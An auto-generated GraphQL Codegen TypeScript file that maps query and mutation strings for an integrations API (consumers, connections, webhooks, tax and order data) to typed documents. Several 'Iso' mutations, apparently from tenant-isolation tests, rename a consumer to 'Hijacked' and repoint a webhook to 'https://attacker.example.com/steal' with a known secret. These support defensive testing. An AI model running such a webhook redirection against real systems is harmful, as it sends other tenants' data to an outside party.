/* eslint-disable */
import * as types from './graphql.js';
import type { TypedDocumentNode as DocumentNode } from '@graphql-typed-document-node/core';

/**
 * Map of all GraphQL operations in the project.
 *
 * This map has several performance disadvantages:
 * 1. It is not tree-shakeable, so it will include all operations in the project.
 * 2. It is not minifiable, so the string of a GraphQL query will be multiple times inside the bundle.
 * 3. It does not support dead code elimination, so it will add unused operations.
 *
 * Therefore it is highly recommended to use the babel or swc plugin for production.
 * Learn more about it here: https://the-guild.dev/graphql/codegen/plugins/presets/preset-client#reducing-bundle-size
 */
type Documents = {
    "\n  query IsoLists($search: String) {\n    consumers(search: $search) { id }\n    webhooks { id accountId }\n  }\n": typeof types.IsoListsDocument,
    "\n  query IsoConsumer($id: ID!) { consumer(id: $id) { id name email } }\n": typeof types.IsoConsumerDocument,
    "\n  query IsoConnections($id: ID!) { consumer(id: $id) { connections { id name } } }\n": typeof types.IsoConnectionsDocument,
    "\n  mutation IsoUpdateConsumer($id: ID!) { updateConsumer(id: $id, input: { name: \"Hijacked\" }) { id } }\n": typeof types.IsoUpdateConsumerDocument,
    "\n  mutation IsoDeleteConsumer($id: ID!) { deleteConsumer(id: $id) { id } }\n": typeof types.IsoDeleteConsumerDocument,
    "\n  mutation IsoCreateConnection($consumerId: ID!) {\n    createConnection(consumerId: $consumerId, input: { integrationId: 1 }) { id }\n  }\n": typeof types.IsoCreateConnectionDocument,
    "\n  mutation IsoUpdateConnection($consumerId: ID!, $connectionId: ID!) {\n    updateConnection(consumerId: $consumerId, connectionId: $connectionId, input: { status: INACTIVE }) { id }\n  }\n": typeof types.IsoUpdateConnectionDocument,
    "\n  mutation IsoDeleteConnection($consumerId: ID!, $connectionId: ID!) {\n    deleteConnection(consumerId: $consumerId, connectionId: $connectionId) { id }\n  }\n": typeof types.IsoDeleteConnectionDocument,
    "\n  query IsoInvoicingTaxes($id: ID!) { consumer(id: $id) { invoicing { taxes { total items { id } } } } }\n": typeof types.IsoInvoicingTaxesDocument,
    "\n  query IsoOpportunities($id: ID!) { consumer(id: $id) { invoicing { opportunities { total items { id } } } } }\n": typeof types.IsoOpportunitiesDocument,
    "\n  query IsoContact($id: ID!) { consumer(id: $id) { invoicing { contact(id: \"contact-0001\") { id } } } }\n": typeof types.IsoContactDocument,
    "\n  mutation IsoCreateProduct($id: ID!) { createProduct(consumerId: $id, input: { name: \"Planted\" }) { id } }\n": typeof types.IsoCreateProductDocument,
    "\n  query IsoModifiers($id: ID!) { consumer(id: $id) { pos { modifiers { total items { id } } } } }\n": typeof types.IsoModifiersDocument,
    "\n  query IsoPmsTaxes($id: ID!) { consumer(id: $id) { pms { taxes { total items { id } } } } }\n": typeof types.IsoPmsTaxesDocument,
    "\n  query IsoPmsOrders($id: ID!) { consumer(id: $id) { pms { orders(state: CLOSED) { total items { id } } } } }\n": typeof types.IsoPmsOrdersDocument,
    "\n  query IsoWebhook($id: ID!) { webhook(id: $id) { id url } }\n": typeof types.IsoWebhookDocument,
    "\n  query IsoWebhookLogs($id: ID!) { webhook(id: $id) { logs { id } } }\n": typeof types.IsoWebhookLogsDocument,
    "\n  mutation IsoUpdateWebhook($id: ID!) {\n    updateWebhook(id: $id, input: { url: \"https://attacker.example.com/steal\", signingSecret: \"known\" }) { id }\n  }\n": typeof types.IsoUpdateWebhookDocument,
    "\n  mutation IsoDeleteWebhook($id: ID!) { deleteWebhook(id: $id) }\n": typeof types.IsoDeleteWebhookDocument,
    "\n  query MgmtConsumers($search: String) {\n    consumers(search: $search) { id name email internalReference redirectUrl }\n  }\n": typeof types.MgmtConsumersDocument,
    "\n  query MgmtConsumer($id: ID!) {\n    consumer(id: $id) {\n      id name email internalReference redirectUrl\n      connections { id name integration integrationId api status data }\n    }\n  }\n": typeof types.MgmtConsumerDocument,
    "\n  mutation MgmtCreateConsumer($input: CreateConsumerInput!) {\n    createConsumer(input: $input) { id name email internalReference redirectUrl }\n  }\n": typeof types.MgmtCreateConsumerDocument,
    "\n  mutation MgmtCreateConnection($consumerId: ID!, $input: CreateConnectionInput!) {\n    createConnection(consumerId: $consumerId, input: $input) {\n      id name integration integrationId api status data\n    }\n  }\n": typeof types.MgmtCreateConnectionDocument,
    "\n  query MgmtIntegrations {\n    integrations {\n      integrationId name api status\n      credentials { name optional }\n      operationsCoverage { operation status }\n    }\n  }\n": typeof types.MgmtIntegrationsDocument,
    "\n  query MgmtWebhooks {\n    webhooks { id accountId createdOn event url status createdBy integrationId }\n  }\n": typeof types.MgmtWebhooksDocument,
    "\n  query MgmtWebhook($id: ID!) {\n    webhook(id: $id) { id accountId createdOn event url status createdBy integrationId }\n  }\n": typeof types.MgmtWebhookDocument,
    "\n  query MgmtWebhookLogs($id: ID!) {\n    webhook(id: $id) {\n      id\n      logs { id webhookId event url accountId createdOn httpStatus integrationId }\n    }\n  }\n": typeof types.MgmtWebhookLogsDocument,
    "\n  query MgmtWebhookEventTypes {\n    webhookEventTypes { event api }\n  }\n": typeof types.MgmtWebhookEventTypesDocument,
    "\n  mutation MgmtCreateWebhook($input: CreateWebhookInput!) {\n    createWebhook(input: $input) { id accountId createdOn event url status createdBy integrationId }\n  }\n": typeof types.MgmtCreateWebhookDocument,
    "\n  mutation MgmtUpdateWebhook($id: ID!, $input: UpdateWebhookInput!) {\n    updateWebhook(id: $id, input: $input) { id accountId createdOn event url status createdBy integrationId }\n  }\n": typeof types.MgmtUpdateWebhookDocument,
    "\n  mutation MgmtDeleteWebhook($id: ID!) {\n    deleteWebhook(id: $id)\n  }\n": typeof types.MgmtDeleteWebhookDocument,
    "\n  query OpsConsumers($search: String) {\n    consumers(search: $search) { id }\n  }\n": typeof types.OpsConsumersDocument,
    "\n  mutation OpsUpdateWebhook($id: ID!, $input: UpdateWebhookInput!) {\n    updateWebhook(id: $id, input: $input) { id }\n  }\n": typeof types.OpsUpdateWebhookDocument,
    "\n  query ServiceIntegrations {\n    integrations {\n      integrationId\n      name\n    }\n  }\n": typeof types.ServiceIntegrationsDocument,
    "\n  query ServiceDemoConsumer($id: ID!) {\n    consumer(id: $id) {\n      id\n      name\n      connections {\n        integrationId\n        api\n        status\n      }\n      invoicing {\n        taxes(size: 3) {\n          total\n          page\n          size\n          items {\n            id\n            rate\n            type\n          }\n        }\n      }\n    }\n  }\n": typeof types.ServiceDemoConsumerDocument,
    "\n  query TrustedIntegrations {\n    integrations {\n      integrationId\n      name\n    }\n  }\n": typeof types.TrustedIntegrationsDocument,
    "\n  query TokConsumers {\n    consumers { id }\n  }\n": typeof types.TokConsumersDocument,
    "\n  query MewsOrders($id: ID!, $page: Int, $size: Int, $state: PmsOrderState, $from: Date, $to: Date, $location: String) {\n    consumer(id: $id) {\n      pms {\n        orders(page: $page, size: $size, state: $state, dateFrom: $from, dateTo: $to, locationId: $location) {\n          total\n          page\n          size\n          items {\n            id\n            sourceRef { id model }\n            creationDate\n            closingDate\n            serviceDate\n            total\n            taxAmount\n            orderNumber\n            totalDiscount\n            currency\n            country\n            customerId\n            locationId\n            guests\n            serviceId\n            mode\n            source\n            taxes { id name rate amount taxId taxRate taxAmount total }\n            items { id quantity unitPrice total taxAmount type taxRate taxId description productId accountingCategoryId discounts { id name amount total type } }\n            reservation { id startDate endDate creationDate resourceName resourceIdentifier resourceId { id sourceRef { id model } } }\n            bills { id invoiceNumber creationDate closingDate partners { id type companyName firstName lastName address { name street city postalCode country } } }\n          }\n        }\n      }\n    }\n  }\n": typeof types.MewsOrdersDocument,
    "\n  query MewsTaxesFailure($id: ID!) {\n    consumer(id: $id) { pms { taxes(size: 1) { total } } }\n  }\n": typeof types.MewsTaxesFailureDocument,
    "\n  query MewsTaxes($id: ID!, $page: Int, $size: Int) {\n    consumer(id: $id) {\n      pms {\n        taxes(page: $page, size: $size) {\n          total\n          page\n          size\n          items { id sourceRef { id model } label rate isCityTax raw }\n        }\n      }\n    }\n  }\n": typeof types.MewsTaxesDocument,
    "\n  query OdooThreeContacts($id: ID!) {\n    consumer(id: $id) {\n      invoicing {\n        a: contact(id: \"10\") { id companyName addresses { addressType } }\n        b: contact(id: \"11\") { id firstName companyId }\n        c: contact(id: \"14\") { id isSupplier }\n      }\n    }\n  }\n": typeof types.OdooThreeContactsDocument,
    "\n  mutation OdooCreateProduct($id: ID!, $input: CreateProductInput!) {\n    createProduct(consumerId: $id, input: $input) {\n      id sourceRef { id model } name unitPrice taxId code unit category currency description cost availableQuantity\n    }\n  }\n": typeof types.OdooCreateProductDocument,
    "\n  query SquareModifiersError($id: ID!) { consumer(id: $id) { pos { modifiers { total } } } }\n": typeof types.SquareModifiersErrorDocument,
    "\n  query SquareModifiers($id: ID!, $page: Int, $size: Int, $location: String) {\n    consumer(id: $id) {\n      pos {\n        modifiers(page: $page, size: $size, locationId: $location) {\n          items { id name options { id name price } raw }\n          total page size\n        }\n      }\n    }\n  }\n": typeof types.SquareModifiersDocument,
    "\n  query ErrConsumer($id: ID!) {\n    consumer(id: $id) { id name }\n  }\n": typeof types.ErrConsumerDocument,
    "\n  query ErrConsumers {\n    consumers { id }\n  }\n": typeof types.ErrConsumersDocument,
    "\n  mutation ErrCreateConsumer($input: CreateConsumerInput!) {\n    createConsumer(input: $input) { id }\n  }\n": typeof types.ErrCreateConsumerDocument,
    "\n  query ErrTaxes($id: ID!) {\n    consumer(id: $id) { invoicing { taxes(size: 2) { total items { id } } } }\n  }\n": typeof types.ErrTaxesDocument,
    "\n  query ErrOpportunities($id: ID!) {\n    consumer(id: $id) { invoicing { opportunities(size: 2) { total } } }\n  }\n": typeof types.ErrOpportunitiesDocument,
    "\n  query ErrContact($id: ID!, $contact: ID!) {\n    consumer(id: $id) { invoicing { contact(id: $contact) { id } } }\n  }\n": typeof types.ErrContactDocument,
    "\n  query ErrModifiers($id: ID!) {\n    consumer(id: $id) { pos { modifiers(size: 2) { total } } }\n  }\n": typeof types.ErrModifiersDocument,
    "\n  mutation ErrCreateProduct($id: ID!, $input: CreateProductInput!) {\n    createProduct(consumerId: $id, input: $input) { id name }\n  }\n": typeof types.ErrCreateProductDocument,
    "\n  mutation ErrCreateWebhook($input: CreateWebhookInput!) {\n    createWebhook(input: $input) { id }\n  }\n": typeof types.ErrCreateWebhookDocument,
    "\n  query ErrWebhook($id: ID!) {\n    webhook(id: $id) { id }\n  }\n": typeof types.ErrWebhookDocument,
    "\n  mutation ErrUpdateWebhook($id: ID!, $input: UpdateWebhookInput!) {\n    updateWebhook(id: $id, input: $input) { id }\n  }\n": typeof types.ErrUpdateWebhookDocument,
    "\n  mutation ErrDeleteWebhook($id: ID!) {\n    deleteWebhook(id: $id)\n  }\n": typeof types.ErrDeleteWebhookDocument,
    "\n  query ErrIntegrations {\n    integrations { integrationId name operationsCoverage { operation status } }\n  }\n": typeof types.ErrIntegrationsDocument,
    "\n  query ParityTaxes($id: ID!, $page: Int, $size: Int) {\n    consumer(id: $id) {\n      invoicing {\n        taxes(page: $page, size: $size) {\n          items { id sourceRef { id model } label rate type code scope active }\n          total page size\n        }\n      }\n    }\n  }\n": typeof types.ParityTaxesDocument,
    "\n  query ParityOpportunities($id: ID!, $page: Int, $size: Int) {\n    consumer(id: $id) {\n      invoicing {\n        opportunities(page: $page, size: $size) {\n          items {\n            id sourceRef { id model } name total probability status partnerId comment currency description\n            pipeStatus pipeName createdDate dueDate endDate isWon ownerRef { id model name }\n          }\n          total page size\n        }\n      }\n    }\n  }\n": typeof types.ParityOpportunitiesDocument,
    "\n  query ParityContact($id: ID!, $contact: ID!) {\n    consumer(id: $id) {\n      invoicing {\n        contact(id: $contact) {\n          id sourceRef { id model } isProspect isCustomer isSupplier isCompany companyName firstName lastName\n          email phone mobile companyId vat companyNumber currency language comment customerAccountNumber\n          supplierAccountNumber birthdate gender\n          addresses { addressType name phone mobile email street number box city postalCode country }\n          externalReference\n        }\n      }\n    }\n  }\n": typeof types.ParityContactDocument,
    "\n  query ParityModifiers($id: ID!, $page: Int, $size: Int, $location: String) {\n    consumer(id: $id) {\n      pos {\n        modifiers(page: $page, size: $size, locationId: $location) {\n          items { id name options { id name price } }\n          total page size\n        }\n      }\n    }\n  }\n": typeof types.ParityModifiersDocument,
    "\n  query ParityPmsTaxes($id: ID!, $page: Int, $size: Int) {\n    consumer(id: $id) {\n      pms {\n        taxes(page: $page, size: $size) {\n          items { id sourceRef { id model } label rate isCityTax }\n          total page size\n        }\n      }\n    }\n  }\n": typeof types.ParityPmsTaxesDocument,
    "\n  query ParityPmsOrders(\n    $id: ID!\n    $page: Int\n    $size: Int\n    $state: PmsOrderState\n    $from: Date\n    $to: Date\n    $location: String\n  ) {\n    consumer(id: $id) {\n      pms {\n        orders(page: $page, size: $size, state: $state, dateFrom: $from, dateTo: $to, locationId: $location) {\n          items {\n            id sourceRef { id model } creationDate closingDate serviceDate total taxAmount orderNumber deviceId\n            totalDiscount totalRefund totalTip deliveryFee mode source currency country loyalty customerId\n            locationId guests serviceId\n            taxes { taxId name taxRate taxAmount total id rate amount }\n            items {\n              id sourceRef { id model } quantity unitPrice total taxAmount type menuId taxRate taxId description\n              discounts { id name total type amount } productId accountingCategoryId\n            }\n            reservation {\n              id sourceRef { id model } startDate endDate creationDate\n              resourceId { id sourceRef { id model } } resourceName resourceIdentifier\n            }\n            bills {\n              id sourceRef { id model } invoiceNumber creationDate closingDate\n              partners {\n                id sourceRef { id model } type firstName lastName companyName\n                address { addressType name street number box city postalCode country }\n              }\n            }\n          }\n          total page size\n        }\n      }\n    }\n  }\n": typeof types.ParityPmsOrdersDocument,
    "\n  mutation ParityCreateProduct($consumerId: ID!, $input: CreateProductInput!) {\n    createProduct(consumerId: $consumerId, input: $input) {\n      id sourceRef { id model } name unitPrice taxId code unit category currency description cost\n      availableQuantity\n    }\n  }\n": typeof types.ParityCreateProductDocument,
};
const documents: Documents = {
    "\n  query IsoLists($search: String) {\n    consumers(search: $search) { id }\n    webhooks { id accountId }\n  }\n": types.IsoListsDocument,
    "\n  query IsoConsumer($id: ID!) { consumer(id: $id) { id name email } }\n": types.IsoConsumerDocument,
    "\n  query IsoConnections($id: ID!) { consumer(id: $id) { connections { id name } } }\n": types.IsoConnectionsDocument,
    "\n  mutation IsoUpdateConsumer($id: ID!) { updateConsumer(id: $id, input: { name: \"Hijacked\" }) { id } }\n": types.IsoUpdateConsumerDocument,
    "\n  mutation IsoDeleteConsumer($id: ID!) { deleteConsumer(id: $id) { id } }\n": types.IsoDeleteConsumerDocument,
    "\n  mutation IsoCreateConnection($consumerId: ID!) {\n    createConnection(consumerId: $consumerId, input: { integrationId: 1 }) { id }\n  }\n": types.IsoCreateConnectionDocument,
    "\n  mutation IsoUpdateConnection($consumerId: ID!, $connectionId: ID!) {\n    updateConnection(consumerId: $consumerId, connectionId: $connectionId, input: { status: INACTIVE }) { id }\n  }\n": types.IsoUpdateConnectionDocument,
    "\n  mutation IsoDeleteConnection($consumerId: ID!, $connectionId: ID!) {\n    deleteConnection(consumerId: $consumerId, connectionId: $connectionId) { id }\n  }\n": types.IsoDeleteConnectionDocument,
    "\n  query IsoInvoicingTaxes($id: ID!) { consumer(id: $id) { invoicing { taxes { total items { id } } } } }\n": types.IsoInvoicingTaxesDocument,
    "\n  query IsoOpportunities($id: ID!) { consumer(id: $id) { invoicing { opportunities { total items { id } } } } }\n": types.IsoOpportunitiesDocument,
    "\n  query IsoContact($id: ID!) { consumer(id: $id) { invoicing { contact(id: \"contact-0001\") { id } } } }\n": types.IsoContactDocument,
    "\n  mutation IsoCreateProduct($id: ID!) { createProduct(consumerId: $id, input: { name: \"Planted\" }) { id } }\n": types.IsoCreateProductDocument,
    "\n  query IsoModifiers($id: ID!) { consumer(id: $id) { pos { modifiers { total items { id } } } } }\n": types.IsoModifiersDocument,
    "\n  query IsoPmsTaxes($id: ID!) { consumer(id: $id) { pms { taxes { total items { id } } } } }\n": types.IsoPmsTaxesDocument,
    "\n  query IsoPmsOrders($id: ID!) { consumer(id: $id) { pms { orders(state: CLOSED) { total items { id } } } } }\n": types.IsoPmsOrdersDocument,
    "\n  query IsoWebhook($id: ID!) { webhook(id: $id) { id url } }\n": types.IsoWebhookDocument,
    "\n  query IsoWebhookLogs($id: ID!) { webhook(id: $id) { logs { id } } }\n": types.IsoWebhookLogsDocument,
    "\n  mutation IsoUpdateWebhook($id: ID!) {\n    updateWebhook(id: $id, input: { url: \"https://attacker.example.com/steal\", signingSecret: \"known\" }) { id }\n  }\n": types.IsoUpdateWebhookDocument,
    "\n  mutation IsoDeleteWebhook($id: ID!) { deleteWebhook(id: $id) }\n": types.IsoDeleteWebhookDocument,
    "\n  query MgmtConsumers($search: String) {\n    consumers(search: $search) { id name email internalReference redirectUrl }\n  }\n": types.MgmtConsumersDocument,
    "\n  query MgmtConsumer($id: ID!) {\n    consumer(id: $id) {\n      id name email internalReference redirectUrl\n      connections { id name integration integrationId api status data }\n    }\n  }\n": types.MgmtConsumerDocument,
    "\n  mutation MgmtCreateConsumer($input: CreateConsumerInput!) {\n    createConsumer(input: $input) { id name email internalReference redirectUrl }\n  }\n": types.MgmtCreateConsumerDocument,
    "\n  mutation MgmtCreateConnection($consumerId: ID!, $input: CreateConnectionInput!) {\n    createConnection(consumerId: $consumerId, input: $input) {\n      id name integration integrationId api status data\n    }\n  }\n": types.MgmtCreateConnectionDocument,
    "\n  query MgmtIntegrations {\n    integrations {\n      integrationId name api status\n      credentials { name optional }\n      operationsCoverage { operation status }\n    }\n  }\n": types.MgmtIntegrationsDocument,
    "\n  query MgmtWebhooks {\n    webhooks { id accountId createdOn event url status createdBy integrationId }\n  }\n": types.MgmtWebhooksDocument,
    "\n  query MgmtWebhook($id: ID!) {\n    webhook(id: $id) { id accountId createdOn event url status createdBy integrationId }\n  }\n": types.MgmtWebhookDocument,
    "\n  query MgmtWebhookLogs($id: ID!) {\n    webhook(id: $id) {\n      id\n      logs { id webhookId event url accountId createdOn httpStatus integrationId }\n    }\n  }\n": types.MgmtWebhookLogsDocument,
    "\n  query MgmtWebhookEventTypes {\n    webhookEventTypes { event api }\n  }\n": types.MgmtWebhookEventTypesDocument,
    "\n  mutation MgmtCreateWebhook($input: CreateWebhookInput!) {\n    createWebhook(input: $input) { id accountId createdOn event url status createdBy integrationId }\n  }\n": types.MgmtCreateWebhookDocument,
    "\n  mutation MgmtUpdateWebhook($id: ID!, $input: UpdateWebhookInput!) {\n    updateWebhook(id: $id, input: $input) { id accountId createdOn event url status createdBy integrationId }\n  }\n": types.MgmtUpdateWebhookDocument,
    "\n  mutation MgmtDeleteWebhook($id: ID!) {\n    deleteWebhook(id: $id)\n  }\n": types.MgmtDeleteWebhookDocument,
    "\n  query OpsConsumers($search: String) {\n    consumers(search: $search) { id }\n  }\n": types.OpsConsumersDocument,
    "\n  mutation OpsUpdateWebhook($id: ID!, $input: UpdateWebhookInput!) {\n    updateWebhook(id: $id, input: $input) { id }\n  }\n": types.OpsUpdateWebhookDocument,
    "\n  query ServiceIntegrations {\n    integrations {\n      integrationId\n      name\n    }\n  }\n": types.ServiceIntegrationsDocument,
    "\n  query ServiceDemoConsumer($id: ID!) {\n    consumer(id: $id) {\n      id\n      name\n      connections {\n        integrationId\n        api\n        status\n      }\n      invoicing {\n        taxes(size: 3) {\n          total\n          page\n          size\n          items {\n            id\n            rate\n            type\n          }\n        }\n      }\n    }\n  }\n": types.ServiceDemoConsumerDocument,
    "\n  query TrustedIntegrations {\n    integrations {\n      integrationId\n      name\n    }\n  }\n": types.TrustedIntegrationsDocument,
    "\n  query TokConsumers {\n    consumers { id }\n  }\n": types.TokConsumersDocument,
    "\n  query MewsOrders($id: ID!, $page: Int, $size: Int, $state: PmsOrderState, $from: Date, $to: Date, $location: String) {\n    consumer(id: $id) {\n      pms {\n        orders(page: $page, size: $size, state: $state, dateFrom: $from, dateTo: $to, locationId: $location) {\n          total\n          page\n          size\n          items {\n            id\n            sourceRef { id model }\n            creationDate\n            closingDate\n            serviceDate\n            total\n            taxAmount\n            orderNumber\n            totalDiscount\n            currency\n            country\n            customerId\n            locationId\n            guests\n            serviceId\n            mode\n            source\n            taxes { id name rate amount taxId taxRate taxAmount total }\n            items { id quantity unitPrice total taxAmount type taxRate taxId description productId accountingCategoryId discounts { id name amount total type } }\n            reservation { id startDate endDate creationDate resourceName resourceIdentifier resourceId { id sourceRef { id model } } }\n            bills { id invoiceNumber creationDate closingDate partners { id type companyName firstName lastName address { name street city postalCode country } } }\n          }\n        }\n      }\n    }\n  }\n": types.MewsOrdersDocument,
    "\n  query MewsTaxesFailure($id: ID!) {\n    consumer(id: $id) { pms { taxes(size: 1) { total } } }\n  }\n": types.MewsTaxesFailureDocument,
    "\n  query MewsTaxes($id: ID!, $page: Int, $size: Int) {\n    consumer(id: $id) {\n      pms {\n        taxes(page: $page, size: $size) {\n          total\n          page\n          size\n          items { id sourceRef { id model } label rate isCityTax raw }\n        }\n      }\n    }\n  }\n": types.MewsTaxesDocument,
    "\n  query OdooThreeContacts($id: ID!) {\n    consumer(id: $id) {\n      invoicing {\n        a: contact(id: \"10\") { id companyName addresses { addressType } }\n        b: contact(id: \"11\") { id firstName companyId }\n        c: contact(id: \"14\") { id isSupplier }\n      }\n    }\n  }\n": types.OdooThreeContactsDocument,
    "\n  mutation OdooCreateProduct($id: ID!, $input: CreateProductInput!) {\n    createProduct(consumerId: $id, input: $input) {\n      id sourceRef { id model } name unitPrice taxId code unit category currency description cost availableQuantity\n    }\n  }\n": types.OdooCreateProductDocument,
    "\n  query SquareModifiersError($id: ID!) { consumer(id: $id) { pos { modifiers { total } } } }\n": types.SquareModifiersErrorDocument,
    "\n  query SquareModifiers($id: ID!, $page: Int, $size: Int, $location: String) {\n    consumer(id: $id) {\n      pos {\n        modifiers(page: $page, size: $size, locationId: $location) {\n          items { id name options { id name price } raw }\n          total page size\n        }\n      }\n    }\n  }\n": types.SquareModifiersDocument,
    "\n  query ErrConsumer($id: ID!) {\n    consumer(id: $id) { id name }\n  }\n": types.ErrConsumerDocument,
    "\n  query ErrConsumers {\n    consumers { id }\n  }\n": types.ErrConsumersDocument,
    "\n  mutation ErrCreateConsumer($input: CreateConsumerInput!) {\n    createConsumer(input: $input) { id }\n  }\n": types.ErrCreateConsumerDocument,
    "\n  query ErrTaxes($id: ID!) {\n    consumer(id: $id) { invoicing { taxes(size: 2) { total items { id } } } }\n  }\n": types.ErrTaxesDocument,
    "\n  query ErrOpportunities($id: ID!) {\n    consumer(id: $id) { invoicing { opportunities(size: 2) { total } } }\n  }\n": types.ErrOpportunitiesDocument,
    "\n  query ErrContact($id: ID!, $contact: ID!) {\n    consumer(id: $id) { invoicing { contact(id: $contact) { id } } }\n  }\n": types.ErrContactDocument,
    "\n  query ErrModifiers($id: ID!) {\n    consumer(id: $id) { pos { modifiers(size: 2) { total } } }\n  }\n": types.ErrModifiersDocument,
    "\n  mutation ErrCreateProduct($id: ID!, $input: CreateProductInput!) {\n    createProduct(consumerId: $id, input: $input) { id name }\n  }\n": types.ErrCreateProductDocument,
    "\n  mutation ErrCreateWebhook($input: CreateWebhookInput!) {\n    createWebhook(input: $input) { id }\n  }\n": types.ErrCreateWebhookDocument,
    "\n  query ErrWebhook($id: ID!) {\n    webhook(id: $id) { id }\n  }\n": types.ErrWebhookDocument,
    "\n  mutation ErrUpdateWebhook($id: ID!, $input: UpdateWebhookInput!) {\n    updateWebhook(id: $id, input: $input) { id }\n  }\n": types.ErrUpdateWebhookDocument,
    "\n  mutation ErrDeleteWebhook($id: ID!) {\n    deleteWebhook(id: $id)\n  }\n": types.ErrDeleteWebhookDocument,
    "\n  query ErrIntegrations {\n    integrations { integrationId name operationsCoverage { operation status } }\n  }\n": types.ErrIntegrationsDocument,
    "\n  query ParityTaxes($id: ID!, $page: Int, $size: Int) {\n    consumer(id: $id) {\n      invoicing {\n        taxes(page: $page, size: $size) {\n          items { id sourceRef { id model } label rate type code scope active }\n          total page size\n        }\n      }\n    }\n  }\n": types.ParityTaxesDocument,
    "\n  query ParityOpportunities($id: ID!, $page: Int, $size: Int) {\n    consumer(id: $id) {\n      invoicing {\n        opportunities(page: $page, size: $size) {\n          items {\n            id sourceRef { id model } name total probability status partnerId comment currency description\n            pipeStatus pipeName createdDate dueDate endDate isWon ownerRef { id model name }\n          }\n          total page size\n        }\n      }\n    }\n  }\n": types.ParityOpportunitiesDocument,
    "\n  query ParityContact($id: ID!, $contact: ID!) {\n    consumer(id: $id) {\n      invoicing {\n        contact(id: $contact) {\n          id sourceRef { id model } isProspect isCustomer isSupplier isCompany companyName firstName lastName\n          email phone mobile companyId vat companyNumber currency language comment customerAccountNumber\n          supplierAccountNumber birthdate gender\n          addresses { addressType name phone mobile email street number box city postalCode country }\n          externalReference\n        }\n      }\n    }\n  }\n": types.ParityContactDocument,
    "\n  query ParityModifiers($id: ID!, $page: Int, $size: Int, $location: String) {\n    consumer(id: $id) {\n      pos {\n        modifiers(page: $page, size: $size, locationId: $location) {\n          items { id name options { id name price } }\n          total page size\n        }\n      }\n    }\n  }\n": types.ParityModifiersDocument,
    "\n  query ParityPmsTaxes($id: ID!, $page: Int, $size: Int) {\n    consumer(id: $id) {\n      pms {\n        taxes(page: $page, size: $size) {\n          items { id sourceRef { id model } label rate isCityTax }\n          total page size\n        }\n      }\n    }\n  }\n": types.ParityPmsTaxesDocument,
    "\n  query ParityPmsOrders(\n    $id: ID!\n    $page: Int\n    $size: Int\n    $state: PmsOrderState\n    $from: Date\n    $to: Date\n    $location: String\n  ) {\n    consumer(id: $id) {\n      pms {\n        orders(page: $page, size: $size, state: $state, dateFrom: $from, dateTo: $to, locationId: $location) {\n          items {\n            id sourceRef { id model } creationDate closingDate serviceDate total taxAmount orderNumber deviceId\n            totalDiscount totalRefund totalTip deliveryFee mode source currency country loyalty customerId\n            locationId guests serviceId\n            taxes { taxId name taxRate taxAmount total id rate amount }\n            items {\n              id sourceRef { id model } quantity unitPrice total taxAmount type menuId taxRate taxId description\n              discounts { id name total type amount } productId accountingCategoryId\n            }\n            reservation {\n              id sourceRef { id model } startDate endDate creationDate\n              resourceId { id sourceRef { id model } } resourceName resourceIdentifier\n            }\n            bills {\n              id sourceRef { id model } invoiceNumber creationDate closingDate\n              partners {\n                id sourceRef { id model } type firstName lastName companyName\n                address { addressType name street number box city postalCode country }\n              }\n            }\n          }\n          total page size\n        }\n      }\n    }\n  }\n": types.ParityPmsOrdersDocument,
    "\n  mutation ParityCreateProduct($consumerId: ID!, $input: CreateProductInput!) {\n    createProduct(consumerId: $consumerId, input: $input) {\n      id sourceRef { id model } name unitPrice taxId code unit category currency description cost\n      availableQuantity\n    }\n  }\n": types.ParityCreateProductDocument,
};

/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 *
 *
 * @example
 * ```ts
 * const query = graphql(`query GetUser($id: ID!) { user(id: $id) { name } }`);
 * ```
 *
 * The query argument is unknown!
 * Please regenerate the types.
 */
export function graphql(source: string): unknown;

/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoLists($search: String) {\n    consumers(search: $search) { id }\n    webhooks { id accountId }\n  }\n"): (typeof documents)["\n  query IsoLists($search: String) {\n    consumers(search: $search) { id }\n    webhooks { id accountId }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoConsumer($id: ID!) { consumer(id: $id) { id name email } }\n"): (typeof documents)["\n  query IsoConsumer($id: ID!) { consumer(id: $id) { id name email } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoConnections($id: ID!) { consumer(id: $id) { connections { id name } } }\n"): (typeof documents)["\n  query IsoConnections($id: ID!) { consumer(id: $id) { connections { id name } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsoUpdateConsumer($id: ID!) { updateConsumer(id: $id, input: { name: \"Hijacked\" }) { id } }\n"): (typeof documents)["\n  mutation IsoUpdateConsumer($id: ID!) { updateConsumer(id: $id, input: { name: \"Hijacked\" }) { id } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsoDeleteConsumer($id: ID!) { deleteConsumer(id: $id) { id } }\n"): (typeof documents)["\n  mutation IsoDeleteConsumer($id: ID!) { deleteConsumer(id: $id) { id } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsoCreateConnection($consumerId: ID!) {\n    createConnection(consumerId: $consumerId, input: { integrationId: 1 }) { id }\n  }\n"): (typeof documents)["\n  mutation IsoCreateConnection($consumerId: ID!) {\n    createConnection(consumerId: $consumerId, input: { integrationId: 1 }) { id }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsoUpdateConnection($consumerId: ID!, $connectionId: ID!) {\n    updateConnection(consumerId: $consumerId, connectionId: $connectionId, input: { status: INACTIVE }) { id }\n  }\n"): (typeof documents)["\n  mutation IsoUpdateConnection($consumerId: ID!, $connectionId: ID!) {\n    updateConnection(consumerId: $consumerId, connectionId: $connectionId, input: { status: INACTIVE }) { id }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsoDeleteConnection($consumerId: ID!, $connectionId: ID!) {\n    deleteConnection(consumerId: $consumerId, connectionId: $connectionId) { id }\n  }\n"): (typeof documents)["\n  mutation IsoDeleteConnection($consumerId: ID!, $connectionId: ID!) {\n    deleteConnection(consumerId: $consumerId, connectionId: $connectionId) { id }\n  }\n"];
